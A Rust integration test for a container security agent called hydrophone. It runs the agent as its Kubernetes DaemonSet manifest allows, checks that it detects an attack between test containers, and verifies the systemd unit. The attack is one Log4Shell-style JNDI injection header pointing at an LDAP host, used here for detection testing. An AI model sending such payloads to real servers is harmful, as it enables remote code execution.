//! What `agent/deploy/` says is enough: the DaemonSet's container, with just the powers and mounts of
//! the manifest, sees an attack; the unit is one that systemd takes.

use std::{
    collections::BTreeMap,
    fs::{self, File},
    path::Path,
    process::{Child, Command, Stdio},
    time::Duration,
};

use anyhow::{Context as _, Result, ensure};
use hydrophone_tests::{Agent, Engine, Event, program, run, wait_for};
use serde_json::{Value, json};

const MANIFEST: &str = include_str!("../../agent/deploy/kubernetes/daemonset.yaml");
const UNIT: &str = include_str!("../../agent/deploy/systemd/hydrophone.service");
const LIMIT: Duration = Duration::from_secs(30);

/// The document of a kind.
fn document(kind: &str) -> Result<Value> {
    for text in MANIFEST.split("\n---\n") {
        let value: Value = serde_saphyr::from_str(text)?;
        if value.pointer("/kind").and_then(Value::as_str) == Some(kind) {
            return Ok(value);
        }
    }
    anyhow::bail!("no {kind} in the manifest")
}

fn text<'a>(value: &'a Value, pointer: &str) -> Result<&'a str> {
    let found = value.pointer(pointer).and_then(Value::as_str);
    found.with_context(|| format!("no text at {pointer} of {value}"))
}

fn list<'a>(value: &'a Value, pointer: &str) -> Result<&'a Vec<Value>> {
    let found = value.pointer(pointer).and_then(Value::as_array);
    found.with_context(|| format!("no list at {pointer} of {value}"))
}

fn holds(value: &Value, pointer: &str) -> bool {
    value.pointer(pointer).and_then(Value::as_bool) == Some(true)
}

/// Where a volume of the pod is on this host. The Docker socket is that of the test's engine, in the
/// place of the node's.
fn host_path(engine: &Engine, volume: &Value) -> Result<String> {
    if volume.pointer("/configMap").is_some() {
        let folder = engine.folder().join("config");
        fs::create_dir_all(&folder)?;
        let config = document("ConfigMap")?;
        let files = config.pointer("/data").and_then(Value::as_object);
        for (name, content) in files.context("an empty ConfigMap")? {
            fs::write(folder.join(name), content.as_str().unwrap_or_default())?;
        }
        return Ok(folder.display().to_string());
    }
    Ok(match text(volume, "/hostPath/path")? {
        "/var/run" => engine.folder().display().to_string(),
        "/var/lib/hydrophone" => {
            let folder = engine.folder().join("state");
            fs::create_dir_all(&folder)?;
            folder.display().to_string()
        }
        path => path.to_owned(),
    })
}

/// The container of the pod as runc takes it (runtime-spec 1.0), from what `runc spec` writes. Debian's
/// Docker Engine does not know `CAP_BPF`, which the kubelet's runtimes do.
fn bundle(engine: &Engine, pod: &Value, container: &Value, folder: &Path) -> Result<()> {
    run("runc", &["spec", "--bundle", path(folder)?])?;
    let file = folder.join("config.json");
    let mut config: Value = serde_json::from_slice(&fs::read(&file)?)?;
    let context = container.pointer("/securityContext");
    let context = context.context("no securityContext")?;
    ensure!(!holds(context, "/privileged"), "the pod is privileged");
    ensure!(list(context, "/capabilities/drop")? == &[json!("ALL")]);
    let capabilities: Vec<String> = list(context, "/capabilities/add")?
        .iter()
        .filter_map(Value::as_str)
        .map(|name| format!("CAP_{name}"))
        .collect();
    let image = text(container, "/image")?;
    let entry = engine.docker(&["inspect", "--format", "{{json .Config.Entrypoint}}", image])?;
    let mut arguments: Vec<Value> = serde_json::from_str(&entry.stdout)?;
    arguments.extend_from_slice(list(container, "/args")?);
    let mut variables = Vec::new();
    for variable in list(container, "/env")? {
        let (name, value) = (text(variable, "/name")?, text(variable, "/value")?);
        variables.push(format!("{name}={value}"));
    }
    let mut set = |pointer: &str, value: Value| -> Result<()> {
        *config.pointer_mut(pointer).context(pointer.to_owned())? = value;
        Ok(())
    };
    set("/process/terminal", json!(false))?;
    set("/process/args", json!(arguments))?;
    set("/process/env", json!(variables))?;
    set(
        "/process/user",
        json!({ "uid": context.pointer("/runAsUser"), "gid": 0 }),
    )?;
    set(
        "/process/noNewPrivileges",
        json!(!holds(context, "/allowPrivilegeEscalation")),
    )?;
    set(
        "/process/capabilities",
        json!({ "bounding": capabilities, "effective": capabilities, "permitted": capabilities }),
    )?;
    set(
        "/root/readonly",
        json!(holds(context, "/readOnlyRootFilesystem")),
    )?;
    let shared = |kind: &Value| {
        kind == "network" && holds(pod, "/hostNetwork") || kind == "pid" && holds(pod, "/hostPID")
    };
    let kinds = config
        .pointer_mut("/linux/namespaces")
        .and_then(Value::as_array_mut);
    let kinds = kinds.context("no namespaces")?;
    kinds.retain(|namespace| !namespace.get("type").is_some_and(shared));
    let volumes: BTreeMap<&str, &Value> = list(pod, "/volumes")?
        .iter()
        .map(|volume| Ok((text(volume, "/name")?, volume)))
        .collect::<Result<_>>()?;
    let mounts = config.pointer_mut("/mounts").and_then(Value::as_array_mut);
    let mounts = mounts.context("no mounts")?;
    for mount in list(container, "/volumeMounts")? {
        let volume = volumes
            .get(text(mount, "/name")?)
            .context("no such volume")?;
        let place = text(mount, "/mountPath")?;
        let mode = if holds(mount, "/readOnly") {
            "ro"
        } else {
            "rw"
        };
        mounts.retain(|other| other.get("destination").is_none_or(|other| other != place));
        mounts.push(json!({
            "destination": place, "type": "bind", "source": host_path(engine, volume)?,
            "options": ["rbind", mode],
        }));
    }
    fs::write(&file, config.to_string())?;
    Ok(())
}

/// A container of runc. Killed and removed when dropped.
struct Runc<'a> {
    root: &'a str,
    child: Child,
}

impl Runc<'_> {
    const NAME: &'static str = "hydrophone-daemon-set";
}

impl Drop for Runc<'_> {
    fn drop(&mut self) {
        if let Err(error) = run(
            "runc",
            &["--root", self.root, "delete", "--force", Self::NAME],
        ) {
            eprintln!("{error:#}");
        }
        // It has ended with the container.
        let _ = self.child.wait();
    }
}

#[test]
fn daemon_set_sees_an_attack_with_what_it_asks_for() -> Result<()> {
    let engine = Engine::start()?;
    let set = document("DaemonSet")?;
    let pod = set.pointer("/spec/template/spec").context("no pod")?;
    let container = pod.pointer("/containers/0").context("no container")?;
    let image = text(container, "/image")?;
    let folder = engine.folder().join("pod");
    let root_fs = folder.join("rootfs");
    fs::create_dir_all(&root_fs)?;
    let binary = Agent::binary()?;
    let archive = engine.folder().join("agent.tar").display().to_string();
    let xtask = binary.with_file_name("xtask").display().to_string();
    let binary = binary.display().to_string();
    run(
        &xtask,
        &["image", "--binary", &binary, "--output", &archive],
    )?;
    engine.docker(&["load", "--input", &archive])?;
    engine.docker(&["create", "--name", "image", "--network=none", image])?;
    engine.docker(&["export", "--output", &archive, "image"])?;
    run("tar", &["-xf", &archive, "-C", path(&root_fs)?])?;
    bundle(&engine, pod, container, &folder)?;

    let web = engine.run_web("web")?;
    let attacker = engine.run_idle("attacker", &[])?;
    let state = engine.folder().join("runc").display().to_string();
    let files = ["stdout", "stderr"].map(|name| folder.join(name));
    let child = Command::new(program("runc")?)
        .args([
            "--root",
            &state,
            "run",
            "--bundle",
            path(&folder)?,
            Runc::NAME,
        ])
        .stdin(Stdio::null())
        .stdout(File::create(&files[0])?)
        .stderr(File::create(&files[1])?)
        .spawn()?;
    let mut runc = Runc {
        root: &state,
        child,
    };
    let said = |file: &Path| fs::read_to_string(file).unwrap_or_default();
    let what = || said(&files[0]) + &said(&files[1]);
    wait_for("the agent watches", LIMIT, || {
        ensure!(runc.child.try_wait()?.is_none(), "it ended early");
        Ok(said(&files[1])
            .contains("hydrophone: watching")
            .then_some(()))
    })
    .with_context(what)?;

    let url = format!("http://{}/hostname", web.ipv4());
    let header = "X-Api: ${jndi:ldap://10.0.0.9/a}";
    attacker.ask(&url, header)?;
    let alert = wait_for("the alert", LIMIT, || {
        let events = said(&files[0]);
        let mut events = events.lines().filter_map(Event::parse);
        Ok(events.find(|event| event.is_between("attacker", "web") && event.sid() == 7_000_002))
    })
    .with_context(what)?;
    assert_eq!(alert.text("/dst_container/id"), web.id(), "{alert}");
    assert_eq!(alert.text("/http/url"), "/hostname", "{alert}");
    run("runc", &["--root", &state, "kill", Runc::NAME, "TERM"])?;
    let status =
        wait_for("the agent ends", LIMIT, || Ok(runc.child.try_wait()?)).with_context(what)?;
    ensure!(status.success(), "{status}: {}", what());
    Ok(())
}

#[test]
fn systemd_takes_the_unit() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let unit = folder.path().join("hydrophone.service");
    let installed = "/usr/local/bin/hydrophone";
    ensure!(UNIT.contains(installed), "{installed} is not what starts");
    let binary = Agent::binary()?;
    // Where it stands before it is installed.
    fs::write(
        &unit,
        UNIT.replace(installed, &binary.display().to_string()),
    )?;
    let analyze =
        |arguments: &[&str]| run("systemd-analyze", &[arguments, &[path(&unit)?]].concat());
    let verified = analyze(&["verify", "--man=no"])?;
    // It ends well although a key is not known: only what it says tells.
    for line in verified.stderr.lines() {
        ensure!(!line.contains("hydrophone"), "{}", verified.stderr);
    }
    // Exposure in tenths: 0 is locked up, 100 is anything goes (`systemd-analyze(1)`, security).
    analyze(&["security", "--offline=true", "--no-pager", "--threshold=40"])?;
    Ok(())
}

fn path(path: &Path) -> Result<&str> {
    path.to_str().context("the path is not UTF-8")
}
